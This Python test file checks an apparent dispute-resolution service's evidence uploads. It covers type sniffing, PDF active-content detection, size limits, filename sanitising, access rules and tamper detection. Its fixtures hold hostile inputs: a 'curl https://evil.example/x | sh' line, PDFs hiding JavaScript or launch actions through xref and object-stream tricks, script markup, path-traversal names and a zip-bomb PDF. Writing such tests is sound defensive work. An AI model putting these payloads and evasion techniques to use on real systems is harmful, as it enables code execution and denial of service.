"""The evidence file: every upload rule with crafted files, who may read it, how it is handed out,
and what happens when a stored file no longer matches its hash."""

from __future__ import annotations

import binascii
import hashlib
import io
import logging
import zipfile

import pytest
import sqlalchemy as sa
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from odr.cases.events import verify_all_chains
from odr.cases.models import Evidence
from odr.errors import ValidationError
from odr.evidence.checks import MAX_CASE_SIZE, MAX_FILE_SIZE, check_upload, display_filename
from odr.evidence.pdf_inspection import InflationLimit, Reading, read_listed, read_raw
from odr.extensions import db
from tests.factories import Dispute, lodge, make_neutral, make_user, notice_kinds
from tests.storage_helpers import delete_stored, is_stored, overwrite_stored, stored_bytes

MB = 1024 * 1024


# ---- crafted files -------------------------------------------------------------------------------


def pdf(build=None) -> bytes:
    """A real one-page PDF, made by pypdf; `build` adds to it before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if build is not None:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _launch(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )


def _object_outside_the_xref(action: bytes) -> bytes:
    """A valid PDF with one more object that its cross-reference table does not list."""
    data = pdf()
    at = data.rindex(b"\nxref\n") + 1
    extra = b"9 0 obj\n" + action + b"\nendobj\n"
    head, _, tail = (data[:at] + extra + data[at:]).rpartition(b"startxref\n")
    return head + b"startxref\n%d\n%%%%EOF\n" % (int(tail.split()[0]) + len(extra))


def _object_inside_a_string(action: bytes) -> bytes:
    """Object 4, the open action, lies inside object 5's string where the cross-reference places
    it: walking the file one sees a string, following the cross-reference one sees the action."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for body in (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (len(offsets), body)
    holder_at = len(out)
    out += b"5 0 obj\n("
    offsets += [len(out), holder_at]  # 4 inside 5's string, 5
    out += b"4 0 obj " + action + b" endobj)\nendobj\n"
    xref = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n"
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def pdf_with_object_stream(hidden: bytes, hex_encoded: bool = True) -> bytes:
    """A PDF 1.5 whose open action lives in an object stream, behind a cross-reference stream."""
    out = bytearray(b"%PDF-1.5\n")
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    header = b"5 0 "
    if hex_encoded:
        body, codec = binascii.hexlify(header + hidden) + b">", b"/ASCIIHexDecode"
    else:
        import zlib

        body, codec = zlib.compress(header + hidden), b"/FlateDecode"
    add(
        4,
        b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>\nstream\n"
        % (len(header), codec, len(body))
        + body
        + b"\nendstream",
    )
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + bytes(2) for n in (1, 2, 3, 4)]
    rows.append(b"\x02" + (4).to_bytes(4, "big") + bytes(2))
    xref_at = len(out)
    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + bytes(2))
    table = b"".join(rows)
    add(
        6,
        b"<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream",
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


PNG = b"\x89PNG\r\n\x1a\n" + bytes.fromhex("0000000d49484452000000010000000108060000001f15c489")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88"


def zip_file() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("invoice.pdf", pdf())
    return out.getvalue()


# ---- helpers -------------------------------------------------------------------------------------


def upload(client, dispute_id: str, name: str, data: bytes, declared="application/octet-stream"):
    return client.client.post(
        f"/api/v1/disputes/{dispute_id}/evidence",
        data={"file": (io.BytesIO(data), name, declared)},
        headers=client._headers(None),
        content_type="multipart/form-data",
    )


def must_upload(client, dispute_id: str, name: str, data: bytes, **kwargs) -> dict:
    response = upload(client, dispute_id, name, data, **kwargs)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def refused(response, status: int = 422) -> str:
    assert response.status_code == status, response.get_json()
    assert response.mimetype == "application/problem+json"
    return response.get_json()["errors"]["file"]


def evidence_rows(app) -> list[Evidence]:
    with app.app_context():
        rows = list(db.session.scalars(sa.select(Evidence).order_by(Evidence.id)))
        db.session.expunge_all()
    return rows


@pytest.fixture
def dispute(app, api) -> Dispute:
    return Dispute(app, api)


# ---- what is accepted, judged by content ---------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "media_type"),
    [
        ("invoice.pdf", pdf(), "application/pdf"),
        ("photo.png", PNG, "image/png"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("photo.webp", WEBP, "image/webp"),
        ("chat.txt", "我们的聊天记录：退货已寄出。\nSent back on 3 May.\n".encode(), "text/plain"),
        ("chat-bom.txt", b"\xef\xbb\xbfwith a byte order mark\r\n", "text/plain"),
    ],
)
def test_each_accepted_type_is_recorded_with_its_hash(app, dispute, name, data, media_type):
    body = must_upload(dispute.clients["claimant"], dispute.id, name, data)
    assert body["media_type"] == media_type
    assert body["size"] == len(data)
    assert body["sha256"] == hashlib.sha256(data).hexdigest()
    assert body["filename"] == name
    assert body["uploader"]["role"] == "claimant"
    assert body["uploader"]["name"] == dispute.users["claimant"].name
    assert stored_bytes(app, body["sha256"]) == data


def test_a_file_named_png_that_is_a_pdf_is_recorded_as_a_pdf(app, dispute):
    body = must_upload(
        dispute.clients["claimant"], dispute.id, "photo.png", pdf(), declared="image/png"
    )
    assert body["media_type"] == "application/pdf"
    download = dispute.clients["claimant"].get(body["url"])
    assert download.mimetype == "application/pdf"
    assert 'filename="photo.png.pdf"' in download.headers["Content-Disposition"]


def test_a_file_named_pdf_that_is_a_png_is_recorded_as_a_png(app, dispute):
    response = upload(
        dispute.clients["claimant"], dispute.id, "contract.pdf", PNG, "application/pdf"
    )
    assert response.status_code == 201
    assert response.get_json()["media_type"] == "image/png"


@pytest.mark.parametrize(
    ("name", "data", "declared"),
    [
        ("invoice.pdf", b"#!/bin/sh\ncurl https://evil.example/x | sh\n", "application/pdf"),
        ("notes.txt", b"  #!/usr/bin/env python3\nimport os\n", "text/plain"),
        ("page.txt", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "text/plain"),
        ("image.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "text/plain"),
        ("bell.txt", b"ring \x07 ring\n", "text/plain"),
    ],
)
def test_scripts_markup_and_control_characters_are_not_plain_text(
    app, dispute, name, data, declared
):
    message = refused(upload(dispute.clients["claimant"], dispute.id, name, data, declared))
    assert "not plain text" in message
    assert evidence_rows(app) == []


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("evidence.zip", zip_file()),
        ("evidence.pdf", zip_file()),
        ("photo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
        ("program.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
    ],
)
def test_other_types_are_refused(app, dispute, name, data):
    message = refused(upload(dispute.clients["claimant"], dispute.id, name, data))
    assert "not accepted" in message
    assert evidence_rows(app) == []


def test_text_that_is_not_utf8_is_refused_and_utf8_is_accepted(app, dispute):
    claimant = dispute.clients["claimant"]
    latin1 = "Reçu: 129,90 €".encode("cp1252")
    assert "UTF-8" in refused(upload(claimant, dispute.id, "receipt.txt", latin1))
    assert must_upload(claimant, dispute.id, "receipt.txt", "Reçu: 129,90 €".encode())


def test_an_empty_file_and_no_file_are_refused_naming_the_field(app, dispute):
    claimant = dispute.clients["claimant"]
    assert refused(upload(claimant, dispute.id, "empty.txt", b"")) == "The file is empty."
    no_file = claimant.client.post(
        f"/api/v1/disputes/{dispute.id}/evidence",
        data={"note": "no file here"},
        headers=claimant._headers(None),
        content_type="multipart/form-data",
    )
    assert refused(no_file) == "Choose a file to upload."
    as_json = claimant.post(f"/api/v1/disputes/{dispute.id}/evidence", {"file": "aGVsbG8="})
    assert refused(as_json) == "Choose a file to upload."


# ---- PDFs with active content --------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(pdf(lambda w: w.add_open_action(JavaScript("app.alert(1)"))), id="javascript"),
        pytest.param(pdf(lambda w: w.add_attachment("setup.exe", b"MZ...")), id="embedded-file"),
        pytest.param(pdf(_launch), id="launch"),
        pytest.param(
            pdf().replace(
                b"/Producer (pypdf)", b"/Producer (pypdf) /AA << /O << /S /J#61vaScript >> >>"
            ),
            id="hex-escaped-name",
        ),
        pytest.param(_object_outside_the_xref(b"<< /S /Launch /F (calc.exe) >>"), id="unlisted"),
        pytest.param(_object_inside_a_string(b"<< /S /Launch /F (calc.exe) >>"), id="in-a-string"),
        pytest.param(
            pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"), id="objstm"
        ),
        pytest.param(
            pdf_with_object_stream(b"<< /S /Launch /F (calc.exe) >>", hex_encoded=False),
            id="flate-objstm",
        ),
    ],
)
def test_pdfs_with_active_content_are_refused(app, dispute, data):
    message = refused(upload(dispute.clients["claimant"], dispute.id, "statement.pdf", data))
    assert "JavaScript, a launch action, embedded files" in message
    assert evidence_rows(app) == []


def test_each_pdf_check_finds_what_the_other_cannot():
    unlisted = _object_outside_the_xref(b"<< /S /Launch /F (calc.exe) >>")
    assert "/Launch" in read_raw(unlisted).names  # walking the file sees it...
    assert "/Launch" not in read_listed(unlisted, Reading()).names  # ...following the xref, not
    in_a_string = _object_inside_a_string(b"<< /S /Launch /F (calc.exe) >>")
    assert "/Launch" not in read_raw(in_a_string).names  # a string, walking the file...
    assert "/Launch" in read_listed(in_a_string, read_raw(in_a_string)).names  # an object
    hidden = pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    assert {"/JavaScript", "/JS"} <= read_raw(hidden).names  # hex-encoded object stream
    assert {"/JavaScript", "/JS"} <= read_listed(hidden, Reading()).names


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.7\n" + bytes(range(256)) * 40, id="garbage"),
        pytest.param(pdf()[:200], id="truncated"),
    ],
)
def test_a_pdf_that_cannot_be_read_is_refused(app, dispute, data):
    message = refused(upload(dispute.clients["claimant"], dispute.id, "broken.pdf", data))
    assert "could not be read" in message


# ---- sizes ---------------------------------------------------------------------------------------


def test_a_file_over_10_mb_is_refused_and_nothing_is_recorded(app, dispute):
    data = b"a" * (MAX_FILE_SIZE + 1)
    message = refused(upload(dispute.clients["claimant"], dispute.id, "big.txt", data), 413)
    assert "10 MB" in message
    assert evidence_rows(app) == []
    assert not is_stored(app, hashlib.sha256(data).hexdigest())
    assert "add_evidence" not in dispute.kinds()


def test_a_request_far_over_the_limit_is_refused_before_it_is_read(app, dispute):
    data = b"a" * (MAX_FILE_SIZE + MB)
    refused(upload(dispute.clients["claimant"], dispute.id, "big.txt", data), 413)
    assert evidence_rows(app) == []


def test_a_file_of_exactly_10_mb_is_accepted(app, dispute):
    body = must_upload(dispute.clients["claimant"], dispute.id, "long.txt", b"b" * MAX_FILE_SIZE)
    assert body["size"] == MAX_FILE_SIZE


def test_a_dispute_holds_at_most_50_mb(app, dispute):
    claimant, respondent = dispute.clients["claimant"], dispute.clients["respondent"]
    for n in range(MAX_CASE_SIZE // MAX_FILE_SIZE):
        who = claimant if n % 2 == 0 else respondent
        must_upload(who, dispute.id, f"part{n}.txt", bytes([ord("c") + n]) * MAX_FILE_SIZE)
    message = refused(upload(respondent, dispute.id, "one-more.txt", b"x"))
    assert "50 MB" in message
    assert len(evidence_rows(app)) == 5


def test_the_same_file_twice_is_refused(app, dispute):
    data = b"the same receipt\n"
    must_upload(dispute.clients["claimant"], dispute.id, "receipt.txt", data)
    message = refused(upload(dispute.clients["respondent"], dispute.id, "copy.txt", data))
    assert message == "This file is already in the evidence of this dispute."


# ---- names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown", "downloaded"),
    [
        ("../../etc/passwd", "passwd", 'attachment; filename="passwd.txt"'),
        ("rec\x00eipt\u202etxt.exe", "receipttxt.exe", 'attachment; filename="receipttxt.exe.txt"'),
        ("..", "evidence", 'attachment; filename="evidence.txt"'),
        ("a" * 300 + ".txt", "a" * 116 + ".txt", 'attachment; filename="' + "a" * 116 + '.txt"'),
        (
            "收据 2024.txt",
            "收据 2024.txt",
            "attachment; filename=\"2024.txt\"; filename*=UTF-8''%E6%94%B6%E6%8D%AE%202024.txt",
        ),
        (
            "收据.txt",
            "收据.txt",
            "attachment; filename=\"evidence.txt\"; filename*=UTF-8''%E6%94%B6%E6%8D%AE.txt",
        ),
    ],
)
def test_file_names_are_kept_for_display_only(app, dispute, name, shown, downloaded):
    data = f"named {name!r}\n".encode()
    body = must_upload(dispute.clients["claimant"], dispute.id, name, data)
    assert body["filename"] == shown
    assert is_stored(app, body["sha256"])
    response = dispute.clients["claimant"].get(body["url"])
    assert response.headers["Content-Disposition"] == downloaded


def test_windows_paths_and_control_characters_are_stripped_from_names():
    # (Werkzeug already reads `\\x` in a multipart file name as an escaped `x`; a name that
    # reaches us with backslashes still keeps only its last segment.)
    assert display_filename("C:\\Users\\me\\..\\receipt.pdf") == "receipt.pdf"
    assert display_filename("..\\..\\windows\\win.ini") == "win.ini"
    assert display_filename("line\nbreak\ttab\u2028.txt") == "line break tab .txt"
    assert display_filename(None) == "evidence"


# ---- who may add and read ------------------------------------------------------------------------


def test_parties_upload_others_may_not(app, api, dispute):
    must_upload(dispute.clients["respondent"], dispute.id, "a.txt", b"from the merchant\n")
    stranger = api.as_user(make_user(app, "consumer"))
    case_manager = api.as_user(make_user(app, "case_manager"))
    assert upload(stranger, dispute.id, "x.txt", b"x").status_code == 404
    assert upload(case_manager, dispute.id, "x.txt", b"x").status_code == 403
    assert upload(stranger, "no-such-dispute", "x.txt", b"x").status_code == 404
    assert upload(api, dispute.id, "x.txt", b"x").status_code == 401


def test_refusal_comes_before_the_file_is_looked_at(app, api, dispute):
    stranger = api.as_user(make_user(app, "consumer"))
    assert upload(stranger, dispute.id, "bad.pdf", b"#!/bin/sh\n").status_code == 404
    dispute.must("claimant", "withdraw", reason="settled privately")
    response = upload(dispute.clients["claimant"], dispute.id, "bad.pdf", b"#!/bin/sh\n")
    assert response.status_code == 409


def test_only_the_claimant_adds_evidence_while_a_filing_is_screened(app, api):
    flagged = Dispute(app, api, claim__amount={"amount": "9000.00", "currency": "EUR"})
    assert flagged.state == "filed"
    assert upload(flagged.clients["respondent"], flagged.id, "a.txt", b"a").status_code == 409
    must_upload(flagged.clients["claimant"], flagged.id, "a.txt", b"a")


def test_who_may_see_the_case_may_list_and_download(app, api, dispute):
    mediator = make_neutral(app, "mediator")
    dispute.to_mediation()
    assert dispute.read()["mediator"]["id"] == mediator.id
    body = must_upload(dispute.clients["claimant"], dispute.id, "photo.png", PNG)
    readers = {
        "respondent": dispute.clients["respondent"],
        "mediator": api.as_user(mediator),
        "case_manager": api.as_user(make_user(app, "case_manager")),
    }
    for who, client in readers.items():
        listed = client.get(f"/api/v1/disputes/{dispute.id}/evidence")
        assert listed.status_code == 200, who
        assert [item["id"] for item in listed.get_json()["items"]] == [body["id"]]
        download = client.get(body["url"])
        assert download.status_code == 200, who
        assert download.data == PNG
    others = [api.as_user(make_user(app, "consumer")), api.as_user(make_neutral(app, "mediator"))]
    for client in others:
        assert client.get(f"/api/v1/disputes/{dispute.id}/evidence").status_code == 404
        assert client.get(body["url"]).status_code == 404
    unknown = f"/api/v1/disputes/{dispute.id}/evidence/00000000-0000-0000-0000-000000000000"
    assert readers["respondent"].get(unknown).status_code == 404


def test_evidence_of_another_dispute_is_not_found_through_this_one(app, api, dispute):
    other = Dispute(app, api, respondent_email="other@merchant.example")
    body = must_upload(other.clients["claimant"], other.id, "a.txt", b"elsewhere\n")
    response = dispute.clients["claimant"].get(
        f"/api/v1/disputes/{dispute.id}/evidence/{body['id']}"
    )
    assert response.status_code == 404


def test_the_list_pages_by_cursor(app, dispute):
    claimant = dispute.clients["claimant"]
    ids = [
        must_upload(claimant, dispute.id, f"{n}.txt", f"page {n}".encode())["id"] for n in range(3)
    ]
    first = claimant.get(f"/api/v1/disputes/{dispute.id}/evidence?limit=2").get_json()
    assert [item["id"] for item in first["items"]] == ids[:2]
    rest = claimant.get(
        f"/api/v1/disputes/{dispute.id}/evidence?limit=2&cursor={first['next_cursor']}"
    ).get_json()
    assert [item["id"] for item in rest["items"]] == ids[2:]
    assert rest["next_cursor"] is None


# ---- handing files out ---------------------------------------------------------------------------


def test_a_download_is_an_attachment_that_nothing_renders(app, dispute):
    page = b"Plain words that a browser must not run.\n"
    body = must_upload(dispute.clients["claimant"], dispute.id, "note.txt", page)
    response = dispute.clients["respondent"].get(body["url"])
    assert response.status_code == 200
    assert response.data == page
    assert response.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="note.txt"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert "no-store" in response.headers["Cache-Control"]


def test_a_tampered_stored_file_is_refused_and_logged(app, dispute, caplog):
    body = must_upload(dispute.clients["claimant"], dispute.id, "contract.pdf", pdf())
    overwrite_stored(app, body["sha256"], pdf().replace(b"200", b"300"))
    with caplog.at_level(logging.WARNING, logger="odr.evidence.services"):
        response = dispute.clients["respondent"].get(body["url"])
    assert response.status_code == 409
    assert response.get_json()["title"] == "The stored file is damaged."
    warnings = [r for r in caplog.records if r.name == "odr.evidence.services"]
    assert len(warnings) == 1
    logged = warnings[0].getMessage()
    assert body["id"] in logged and dispute.data["reference"] in logged
    for personal in ("contract", dispute.users["respondent"].email, dispute.users["claimant"].name):
        assert personal not in logged


def test_a_missing_stored_file_is_refused_and_logged(app, dispute, caplog):
    body = must_upload(dispute.clients["claimant"], dispute.id, "gone.txt", b"soon gone\n")
    delete_stored(app, body["sha256"])
    with caplog.at_level(logging.WARNING, logger="odr.evidence.services"):
        assert dispute.clients["claimant"].get(body["url"]).status_code == 409
    assert "is missing" in caplog.text


def test_uploading_the_bytes_again_repairs_a_damaged_copy(app, dispute, api):
    data = b"repairable\n"
    body = must_upload(dispute.clients["claimant"], dispute.id, "r.txt", data)
    overwrite_stored(app, body["sha256"], b"rot")
    other = Dispute(app, api, respondent_email="other@merchant.example")
    must_upload(other.clients["claimant"], other.id, "r.txt", data)
    assert dispute.clients["claimant"].get(body["url"]).data == data


# ---- the record and the people told --------------------------------------------------------------


def test_the_event_log_records_ids_and_hash_but_no_name_and_the_chain_holds(app, dispute):
    body = must_upload(dispute.clients["respondent"], dispute.id, "private name.txt", b"facts\n")
    event = [e for e in dispute.events() if e["kind"] == "add_evidence"][-1]
    assert event["data"]["evidence"] == body["id"]
    assert event["data"]["sha256"] == body["sha256"]
    assert event["data"]["size"] == body["size"]
    assert "private name" not in str(event)
    assert dispute.read()["version"] == dispute.data["version"] + 1
    with app.app_context():
        assert verify_all_chains() == []


def test_the_other_party_and_the_mediator_are_told(app, api, dispute, mailbox):
    mediator = make_neutral(app, "mediator")
    dispute.to_mediation()
    mailbox.clear()
    must_upload(dispute.clients["claimant"], dispute.id, "a.txt", b"told\n")
    assert "evidence_added" in notice_kinds(app, dispute.users["respondent"])
    assert "evidence_added" in notice_kinds(app, mediator)
    assert "evidence_added" not in notice_kinds(app, dispute.users["claimant"])
    subjects = [m["Subject"] for m in mailbox.to(dispute.users["respondent"].email)]
    assert f"New evidence in dispute {dispute.data['reference']}" in subjects
    assert mailbox.to(mediator.email)
    assert not mailbox.to(dispute.users["claimant"].email)


def test_the_same_idempotency_key_and_body_give_the_same_answer(app, dispute):
    claimant = dispute.clients["claimant"]
    _, body = encode_multipart(
        {"file": FileStorage(io.BytesIO(b"once\n"), filename="once.txt")},
        boundary="----evidence-boundary",
    )
    headers = {**claimant._headers(None), "Idempotency-Key": "upload-1"}
    kwargs = {
        "data": body,
        "headers": headers,
        "content_type": "multipart/form-data; boundary=----evidence-boundary",
    }
    first = claimant.client.post(f"/api/v1/disputes/{dispute.id}/evidence", **kwargs)
    again = claimant.client.post(f"/api/v1/disputes/{dispute.id}/evidence", **kwargs)
    assert first.status_code == again.status_code == 201
    assert again.headers["Idempotent-Replayed"] == "true"
    assert again.get_json()["id"] == first.get_json()["id"]
    assert len(evidence_rows(app)) == 1


def test_add_evidence_is_offered_to_the_parties_but_not_through_the_actions_endpoint(app, dispute):
    assert "add_evidence" in dispute.read("claimant")["actions"]
    assert "add_evidence" in dispute.read("respondent")["actions"]
    response = dispute.act("claimant", "add_evidence", file="x")
    assert response.status_code == 404


# ---- the web pages -------------------------------------------------------------------------------


def test_a_party_uploads_on_the_page_and_the_other_downloads(app, dispute, make_web):
    claimant, respondent = make_web(), make_web()
    claimant.login(dispute.users["claimant"].email)
    page = claimant.get(f"/disputes/{dispute.id}").get_data(as_text=True)
    assert 'enctype="multipart/form-data"' in page
    response = claimant.post(
        f"/disputes/{dispute.id}/evidence",
        {"file": (io.BytesIO(PNG), "../../delivery photo.png")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 303
    row = evidence_rows(app)[0]
    assert row.filename == "delivery photo.png" and row.media_type == "image/png"
    respondent.login(dispute.users["respondent"].email)
    page = respondent.get(f"/disputes/{dispute.id}").get_data(as_text=True)
    assert "delivery photo.png" in page
    assert f'title="{row.sha256}"' in page and row.sha256[:12] in page
    link = f"/disputes/{dispute.id}/evidence/{row.public_id}"
    assert link in page
    download = respondent.get(link)
    assert download.status_code == 200 and download.data == PNG
    assert download.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Disposition"].startswith("attachment;")


def test_a_refused_upload_is_explained_next_to_the_field(app, dispute, web):
    web.login(dispute.users["claimant"].email)
    web.get(f"/disputes/{dispute.id}")
    response = web.post(
        f"/disputes/{dispute.id}/evidence",
        {"file": (io.BytesIO(pdf(_launch)), "statement.pdf")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert 'id="evidence-file-error"' in page and "launch action" in page
    assert 'aria-invalid="true"' in page
    assert evidence_rows(app) == []


def test_the_web_upload_needs_the_csrf_token(app, dispute, web):
    web.login(dispute.users["claimant"].email)
    response = web.post(
        f"/disputes/{dispute.id}/evidence",
        {"file": (io.BytesIO(b"no token\n"), "a.txt")},
        csrf=False,
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    assert evidence_rows(app) == []


def test_a_web_upload_over_10_mb_is_refused_on_the_page(app, dispute, web):
    web.login(dispute.users["claimant"].email)
    web.get(f"/disputes/{dispute.id}")
    response = web.post(
        f"/disputes/{dispute.id}/evidence",
        {"file": (io.BytesIO(b"d" * (MAX_FILE_SIZE + 1)), "big.txt")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert 'id="evidence-file-error"' in page and "A file may be at most 10 MB." in page
    response = web.post(  # several files may come at once: up to what a dispute may hold
        f"/disputes/{dispute.id}/evidence",
        {"file": (io.BytesIO(b"d" * (MAX_CASE_SIZE + MB)), "bigger.txt")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert (
        "Evidence file: The files chosen add up to more than 50 MB. Upload them in smaller groups."
        in response.get_data(as_text=True)
    )
    assert evidence_rows(app) == []


def test_a_stranger_cannot_download_on_the_web(app, dispute, web):
    body = must_upload(dispute.clients["claimant"], dispute.id, "a.txt", b"web secret\n")
    stranger = make_user(app, "consumer")
    web.login(stranger.email)
    assert web.get(f"/disputes/{dispute.id}/evidence/{body['id']}").status_code == 404


def test_a_tampered_file_is_refused_on_the_web_too(app, dispute, web, caplog):
    body = must_upload(dispute.clients["claimant"], dispute.id, "a.txt", b"web tamper\n")
    overwrite_stored(app, body["sha256"], b"web tampered\n")
    web.login(dispute.users["claimant"].email)
    with caplog.at_level(logging.WARNING, logger="odr.evidence.services"):
        response = web.get(f"/disputes/{dispute.id}/evidence/{body['id']}", follow_redirects=True)
    assert "no longer match the SHA-256" in response.get_data(as_text=True)
    assert body["id"] in caplog.text


def test_the_dispute_page_costs_the_same_with_1_or_8_files(app, dispute, web):
    from tests.cases.test_query_count import _queries_for

    claimant = dispute.clients["claimant"]
    other = lodge(claimant)["id"]
    for n in range(8):
        must_upload(claimant, other, f"{n}.txt", f"file {n}\n".encode())
    must_upload(claimant, dispute.id, "one.txt", b"just one\n")
    web.login(dispute.users["claimant"].email)
    one, eight = (lambda d=d: web.get(f"/disputes/{d}") for d in (dispute.id, other))
    assert _queries_for(app, one) == _queries_for(app, eight)
    assert web.get(f"/disputes/{other}").get_data(as_text=True).count("/evidence/") == 8


def test_object_streams_that_inflate_without_end_are_refused_quickly():
    """A zip bomb in a PDF: two object streams of 40 MB of spaces each, a few kilobytes packed."""
    import zlib

    bomb = zlib.compress(b" " * (40 * 1024 * 1024), 9)
    stream = b"<< /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode >>\nstream\n"
    body = b"".join(b"%d 0 obj\n" % n + stream + bomb + b"\nendstream\nendobj\n" for n in (1, 2))
    data = b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    assert len(data) < 200 * 1024
    with pytest.raises(InflationLimit):  # the walk stops at 64 MB inflated in all
        read_raw(data)
    with pytest.raises(ValidationError) as refused:
        check_upload("bomb.pdf", data)
    assert "file" in refused.value.errors
